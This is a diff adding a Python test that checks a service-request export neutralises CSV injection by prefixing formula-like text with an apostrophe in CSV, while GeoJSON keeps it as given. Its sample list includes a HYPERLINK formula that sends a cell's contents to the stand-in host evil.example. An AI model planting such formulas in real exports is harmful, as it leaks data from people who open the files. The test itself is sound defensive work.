@@ -198,3 +198,25 @@ def test_abandoned_export_cancels_the_copy(monkeypatch, fmt) -> None:
     pieces.close()
     assert len(cancelled) == 1
     assert ServiceRequest.objects.count() == 3
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"photo")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
+
+
+def test_texts_a_spreadsheet_would_run_get_an_apostrophe_in_csv_only(client) -> None:
+    """A citizen's or the city's text that starts a formula (CSV injection) reaches a
+    spreadsheet as text, on both paths; GeoJSON keeps it as given, as do numbers in CSV."""
+    for text in FORMULAS:
+        ServiceRequestFactory(description=text, address=text, lat=35.0, long=-78.5)
+    ServiceRequestFactory(description="A plain one = fine", address="")
+
+    served_csv = served(client, "csv")
+    assert portable("csv") == served_csv
+    rows = list(csv.DictReader(io.StringIO(served_csv.decode())))
+    assert [row["description"] for row in rows] == [f"'{text}" for text in FORMULAS] + [
+        "A plain one = fine"
+    ]
+    assert [row["address"] for row in rows[:-1]] == [f"'{text}" for text in FORMULAS]
+    assert rows[-1]["address"] == "" and {row["long"] for row in rows[:-1]} == {"-78.5"}
+    features = json.loads(served(client, "geojson"))["features"]
+    assert [f["properties"]["description"] for f in features[:-1]] == FORMULAS
